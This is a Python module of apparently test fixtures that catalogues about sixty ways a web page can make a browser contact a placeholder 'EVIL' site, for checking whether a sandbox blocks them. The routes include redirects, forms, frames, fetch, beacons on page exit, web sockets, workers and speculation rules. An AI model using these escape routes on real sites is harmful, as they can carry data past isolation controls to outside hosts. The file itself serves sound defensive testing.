"""Ways in which a page of one site makes the browser ask another one for something.

In the pages EVIL stands for the other site's address, with a path that tells the escape; TUNNEL
for a site that speaks https, SOCKET for EVIL as a web socket, and AWAY for a page of the own site
that redirects to EVIL.
"""

import re
from collections.abc import Iterator, Mapping
from types import MappingProxyType

from envs.browser_pages import Answer, Site

IMAGE = "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'/>"


def script(code: str) -> str:
    """A page that runs a script."""
    return f"<title>x</title><body><script>{code}</script>"


def module(code: str) -> str:
    """A page that runs a script that may wait."""
    return f"<title>x</title><body><script type=module>{code}</script>"


def worker(code: str) -> str:
    """The script that starts a worker that runs a script."""
    return f"new Worker(URL.createObjectURL(new Blob([`{code}`])))"


def redirect(status: int) -> Answer:
    """Away at once."""
    return status, {"Location": "EVIL/page"}, "moved"


def link(rel: str, url: str = "EVIL/x.js", more: str = "") -> str:
    """A page whose head has a link."""
    return f"<title>x</title><link rel='{rel}' href='{url}' {more}><body>"


def rules(kind: str) -> str:
    """A page that says what is to be fetched ahead."""
    listed = (
        f'{{"{kind}": [{{"source": "list", "urls": ["EVIL/ahead"], "eagerness": "immediate"}}]}}'
    )
    return f"<title>x</title><script type=speculationrules>{listed}</script><body>"


ESCAPES: Mapping[str, Answer] = MappingProxyType(
    {
        "redirect 301": redirect(301),
        "redirect 302": redirect(302),
        "redirect 303": redirect(303),
        "redirect 307": redirect(307),
        "redirect 308": redirect(308),
        "refresh header": (200, {"Refresh": "0; url=EVIL/page"}, "<title>x</title>"),
        "meta refresh": "<title>x</title><meta http-equiv=refresh content='0; url=EVIL/page'>",
        "location": script("location = 'EVIL/page'"),
        "location to https": script("location = 'TUNNEL/page'"),
        "history then location": script(
            "history.pushState(0, '', '/a'); location.replace('EVIL/page')"
        ),
        "window.open": script("window.open('EVIL/page')"),
        "window.open then location": script("window.open('').location = 'EVIL/page'"),
        "link to a new tab": "<a target=_blank href=EVIL/page>x</a><script>"
        "document.links[0].click()</script>",
        "link to download": "<a download href=EVIL/page>x</a><script>"
        "document.links[0].click()</script>",
        "ping of a link": "<a ping=EVIL/ping href='#x'>x</a><script>"
        "document.links[0].click()</script>",
        "form by POST": "<form method=post action=EVIL/page><input name=a value=b></form><script>"
        "document.forms[0].submit()</script>",
        "form by GET to a new tab": "<form target=_blank action=EVIL/page><input name=a></form>"
        "<script>document.forms[0].submit()</script>",
        "frame": "<title>x</title><iframe src=EVIL/page></iframe>",
        "frame in a frame": "<title>x</title><iframe srcdoc='<iframe src=EVIL/page></iframe>'>",
        "frame without an origin": "<title>x</title><iframe sandbox=allow-scripts "
        'srcdoc="<script>fetch(`EVIL/page`)</script>"></iframe>',
        "frame of data": "<title>x</title><iframe src='data:text/html,<img src=EVIL/x.svg>'>",
        "object": "<title>x</title><object data=EVIL/page></object>",
        "embed": "<title>x</title><embed src=EVIL/page>",
        "image": "<title>x</title><img src=EVIL/x.svg>",
        "image with sizes": "<title>x</title><img srcset='EVIL/x.svg 2x, EVIL/y.svg 1x'>",
        "image button": "<title>x</title><input type=image src=EVIL/x.svg>",
        "image in a drawing": "<title>x</title><svg><image href=EVIL/x.svg /></svg>",
        "image by redirect": "<title>x</title><img src=AWAY>",
        "video": "<title>x</title><video src=EVIL/x.mp4 autoplay muted></video>",
        "sound": "<title>x</title><audio src=EVIL/x.mp3 preload=auto></audio>",
        "style sheet": link("stylesheet", "EVIL/x.css"),
        "imported style": "<title>x</title><style>@import 'EVIL/x.css';</style>",
        "background": "<title>x</title><body style='background: url(EVIL/x.svg)'>x",
        "font": "<title>x</title><style>@font-face {font-family: f; src: url(EVIL/x.woff)} "
        "body {font-family: f}</style><body>x",
        "script": "<title>x</title><script src=EVIL/x.js></script>",
        "module": module("import('EVIL/x.js').catch(() => 0)"),
        "fetch": script("fetch('EVIL/page', {mode: 'no-cors'}).catch(() => 0)"),
        "fetch to https": script("fetch('TUNNEL/page', {mode: 'no-cors'}).catch(() => 0)"),
        "fetch with a preflight": script(
            "fetch('EVIL/page', {method: 'PUT', headers: {'X-A': 'b'}}).catch(() => 0)"
        ),
        "fetch by redirect": script(
            "fetch('AWAY', {method: 'POST', body: 'b', mode: 'no-cors'}).catch(() => 0)"
        ),
        "fetch that outlives the page": script(
            "fetch('EVIL/page', {mode: 'no-cors', keepalive: true}).catch(() => 0);"
            "location = '/quiet'"
        ),
        "XMLHttpRequest": script(
            "const r = new XMLHttpRequest(); r.open('GET', 'EVIL/page'); r.send()"
        ),
        "beacon": script("navigator.sendBeacon('EVIL/page', 'b')"),
        "beacon at the end": script(
            "addEventListener('pagehide', () => navigator.sendBeacon('EVIL/page', 'b'));"
            "addEventListener('load', () => setTimeout(() => {location = '/quiet'}))"
        ),
        "event source": script("new EventSource('EVIL/page')"),
        "web socket": script("new WebSocket('SOCKET/page')"),
        "web socket with TLS": script("new WebSocket('TUNNEL/page'.replace('https', 'wss'))"),
        "worker": script(worker("fetch('EVIL/page', {mode: 'no-cors'}).catch(() => 0)")),
        "worker that imports": script(worker("importScripts('EVIL/x.js')")),
        "worker with a socket": script(worker("new WebSocket('SOCKET/page')")),
        "shared worker": script(
            "new SharedWorker(URL.createObjectURL(new Blob([\"fetch('EVIL/page', "
            "{mode: 'no-cors'}).catch(() => 0)\"])))"
        ),
        "prefetch": link("prefetch"),
        "preload": link("preload", more="as=script"),
        "preload by a header": (
            200,
            {"Link": "<EVIL/x.js>; rel=preload; as=script"},
            "<title>x</title>",
        ),
        "module preload": link("modulepreload"),
        "preconnect": link("preconnect", "TUNNEL"),
        "icon": link("icon", "EVIL/x.svg"),
        "prefetch by rules": rules("prefetch"),
        "prerender by rules": rules("prerender"),
        "report of a broken policy": (
            200,
            {"Content-Security-Policy": "img-src 'none'; report-uri EVIL/report"},
            "<title>x</title><img src=/x.svg>",
        ),
    }
)
TOP = frozenset(
    {
        *("redirect 302", "refresh header", "meta refresh", "location", "location to https"),
        *("form by POST", "icon", "preconnect"),
        *("beacon at the end", "fetch that outlives the page"),
    }
)
"""Those that are tried as pages of their own; the others as frames of one page."""
IN_FRONT = ("prefetch by rules", "prerender by rules")
"""Those that are tried one by one: Chromium fetches ahead for the page in front only."""


def path(name: str) -> str:
    """Where an escape is served, and what the other site is asked for by it."""
    return "/" + re.sub("[^a-z0-9]+", "-", name.lower())


def pages(evil: str, tunnel: str) -> dict[str, Answer]:
    """What a site serves whose pages try to reach the other ones."""
    served = dict(_filled(evil, tunnel))
    frames = "".join(
        f"<iframe src={path(name)}></iframe>" for name in ESCAPES if name not in (*TOP, *IN_FRONT)
    )
    return {**served, "/all": "<title>all</title>" + frames, "/quiet": "<title>quiet</title>quiet"}


def seen(site: Site) -> set[str]:
    """The escapes that reached a site."""
    return {name for name in ESCAPES for hit in site.paths if hit.startswith(path(name) + "/")}


def _filled(evil: str, tunnel: str) -> Iterator[tuple[str, Answer]]:
    for name, page in ESCAPES.items():
        here = evil + path(name)
        names = {
            "EVIL": here,
            "TUNNEL": tunnel.replace("http:", "https:") + path(name),
            "SOCKET": here.replace("http:", "ws:"),
            "AWAY": "/away" + path(name),
        }
        yield path(name), _replaced(page, names)
        yield names["AWAY"], (307, {"Location": here + "/away"}, "moved")


def _replaced(page: Answer, names: Mapping[str, str]) -> Answer:
    def text(value: str) -> str:
        return re.sub("|".join(names), lambda found: names[found[0]], value)

    if isinstance(page, str):
        return text(page)
    status, headers, body = page
    return status, {name: text(value) for name, value in headers.items()}, text(str(body))
